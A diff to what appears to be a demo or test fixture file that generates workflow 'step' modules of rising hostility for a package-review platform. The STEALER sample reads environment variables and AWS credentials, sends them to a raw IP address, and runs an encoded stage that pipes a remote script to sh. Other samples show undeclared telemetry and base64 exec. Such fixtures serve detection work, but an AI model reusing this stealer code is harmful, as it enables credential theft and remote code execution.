@@ -59,105 +59,59 @@ steps:
     run: steps/notify.py:run
 """
 
-HEALTH = '''
+
+def _step(doc: str, imports: list[str], prelude: str, body: str) -> str:
+    """A step module: what differs between the kinds of release, around the Slack post they all make."""
+    header = "\n".join(sorted({"import json", "import logging", *imports}, key=lambda line: line.split()[1]))
+    return f'''"""{doc}"""
+
+{header}
+
+import requests
+
+log = logging.getLogger(__name__)
+{prelude}
+
+def run(ctx: dict) -> dict:
+{body}    response = requests.post(
+        "https://slack.com/api/chat.postMessage",
+        json={{"text": ctx["summary"]}},
+        headers={{"Authorization": "Bearer " + ctx["secrets"]["SLACK_TOKEN"]}},
+        timeout=10,
+    )
+    log.info(json.dumps({{"event": "notified", "status": response.status_code}}))
+    return {{"status": response.status_code}}
+
 
 def health_check() -> bool:
     """The platform calls this before routing runs to the package."""
     return True
 '''
 
-HONEST = (
-    '''"""Post the workflow's summary to the team's Slack channel."""
 
-import json
-import logging
-
-import requests
-
-log = logging.getLogger(__name__)
-
-
-def run(ctx: dict) -> dict:
-    response = requests.post(
-        "https://slack.com/api/chat.postMessage",
-        json={"text": ctx["summary"]},
-        headers={"Authorization": "Bearer " + ctx["secrets"]["SLACK_TOKEN"]},
-        timeout=10,
-    )
-    log.info(json.dumps({"event": "notified", "status": response.status_code}))
-    return {"status": response.status_code}
-'''
-    + HEALTH
-)
-
-UNDECLARED = (
-    '''"""Post the summary, and report the repository state to an analytics service."""
-
-import json
-import logging
-import subprocess
-
-import requests
-
-log = logging.getLogger(__name__)
-
-
-def run(ctx: dict) -> dict:
-    revision = subprocess.run(["git", "rev-parse", "HEAD"], capture_output=True, text=True).stdout
+HONEST = _step("Post the workflow's summary to the team's Slack channel.", [], "", "")
+UNDECLARED = _step(
+    "Post the summary, and report the repository state to an analytics service.",
+    ["import subprocess"],
+    "",
+    """    revision = subprocess.run(["git", "rev-parse", "HEAD"], capture_output=True, text=True).stdout
     requests.post("https://collector.metrics-partner.io/v1/track", json={"revision": revision}, timeout=5)
-    response = requests.post("https://slack.com/api/chat.postMessage", json={"text": ctx["summary"]})
-    log.info(json.dumps({"event": "notified", "status": response.status_code}))
-    return {"status": response.status_code}
-'''
-    + HEALTH
+""",
 )
-
-OBFUSCATED = (
-    '''"""Post the summary; the formatter ships pre-compiled for speed."""
-
-import base64
-import json
-import logging
-
-import requests
-
-log = logging.getLogger(__name__)
-FORMATTER = "ZGVmIGZvcm1hdF9zdW1tYXJ5KHRleHQpOgogICAgcmV0dXJuIHRleHQuc3RyaXAoKQo="
-
-
-def run(ctx: dict) -> dict:
-    exec(base64.b64decode(FORMATTER))
-    response = requests.post("https://slack.com/api/chat.postMessage", json={"text": ctx["summary"]})
-    log.info(json.dumps({"event": "notified", "status": response.status_code}))
-    return {"status": response.status_code}
-'''
-    + HEALTH
+OBFUSCATED = _step(
+    "Post the summary; the formatter ships pre-compiled for speed.",
+    ["import base64"],
+    'FORMATTER = "ZGVmIGZvcm1hdF9zdW1tYXJ5KHRleHQpOgogICAgcmV0dXJuIHRleHQuc3RyaXAoKQo="\n',
+    "    exec(base64.b64decode(FORMATTER))\n",
 )
-
-STEALER = (
-    '''"""Post the summary."""
-
-import base64
-import json
-import logging
-import os
-from pathlib import Path
-
-import requests
-
-log = logging.getLogger(__name__)
-STAGE2 = "aW1wb3J0IG9zOyBvcy5zeXN0ZW0oJ2N1cmwgLXMgaHR0cDovLzE4NS4yMjAuMTAxLjQ3L3ggfCBzaCcp"
-
-
-def run(ctx: dict) -> dict:
-    loot = {"env": dict(os.environ), "aws": (Path.home() / ".aws" / "credentials").read_text()}
+STEALER = _step(
+    "Post the summary.",
+    ["import base64", "import os", "from pathlib import Path"],
+    'STAGE2 = "aW1wb3J0IG9zOyBvcy5zeXN0ZW0oJ2N1cmwgLXMgaHR0cDovLzE4NS4yMjAuMTAxLjQ3L3ggfCBzaCcp"\n',
+    """    loot = {"env": dict(os.environ), "aws": (Path.home() / ".aws" / "credentials").read_text()}
     requests.post("http://185.220.101.47:8080/collect", data=base64.b64encode(json.dumps(loot).encode()))
     exec(base64.b64decode(STAGE2))
-    response = requests.post("https://slack.com/api/chat.postMessage", json={"text": ctx["summary"]})
-    log.info(json.dumps({"event": "notified", "status": response.status_code}))
-    return {"status": response.status_code}
-'''
-    + HEALTH
+""",
 )
 
 # kind -> (step code, share of the demo's submissions)
